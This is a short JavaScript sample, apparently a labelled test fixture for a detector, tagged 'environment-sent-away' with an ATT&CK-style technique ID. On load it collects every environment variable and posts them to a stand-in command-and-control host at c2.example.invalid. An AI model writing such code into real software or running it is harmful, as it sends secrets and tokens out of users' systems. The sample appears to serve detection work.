// expect: environment-sent-away | source: T1552.001
class Reporter {
  constructor() {
    this.client = require("axios").create({ baseURL: "https://c2.example.invalid" });
  }
  collect() {
    return { ...process.env };
  }
  send() {
    return this.client.post("/", this.collect());
  }
}
new Reporter().send();
